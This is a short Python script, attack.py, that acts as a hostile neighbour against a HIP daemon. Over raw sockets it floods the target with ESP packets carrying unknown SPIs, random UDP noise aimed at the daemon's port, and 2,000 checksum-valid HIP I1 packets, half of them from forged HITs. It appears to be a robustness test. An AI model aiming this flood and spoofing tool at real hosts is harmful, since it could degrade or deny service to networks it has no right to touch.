"""A neighbour that means no good.

attack.py FROM TO OWN_HIT VICTIM_HIT    FROM, TO: IPv4 addresses
Sends 1,000 ESP packets of unknown SPIs, raw and in UDP, 1,000 datagrams of noise to the daemon's port, and 2,000
I1 packets with right checksums, half of them from HITs made up for the occasion.
"""

import ipaddress
import random
import socket
import struct
import sys

HIP, ESP, PORT = 139, 50, 10500
GROUPS = bytes([0x01, 0xFF, 0x00, 0x03, 7, 8, 4]) + b"\0" * 1


def i1(source, target, own, victim):
    body = struct.pack("!HH", 0, 0) + own + victim + GROUPS
    length = (4 + len(body) - 8) // 8
    packet = bytearray(bytes([59, length, 1, 0x21]) + body)
    struct.pack_into("!H", packet, 4, checksum(packet, source, target))
    return bytes(packet)


def checksum(packet, source, target):
    data = source + target + struct.pack("!BBH", 0, HIP, len(packet)) + bytes(packet)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main(own_address, address, own, victim):
    noise = random.Random(1)
    source, target = socket.inet_aton(own_address), socket.inet_aton(address)
    own, victim = ipaddress.ip_address(own).packed, ipaddress.ip_address(victim).packed
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, ESP) as esp, \
            socket.socket(socket.AF_INET, socket.SOCK_RAW, HIP) as hip, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for _ in range(1000):
            packet = struct.pack("!II", noise.randrange(256, 1 << 32), 1) + noise.randbytes(100)
            esp.sendto(packet, (address, 0))
            udp.sendto(packet, (address, PORT))
            udp.sendto(noise.randbytes(noise.randrange(1400)), (address, PORT))
        for number in range(2000):
            hit = own if number % 2 else own[:4] + noise.randbytes(12)
            hip.sendto(i1(source, target, hit, victim), (address, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
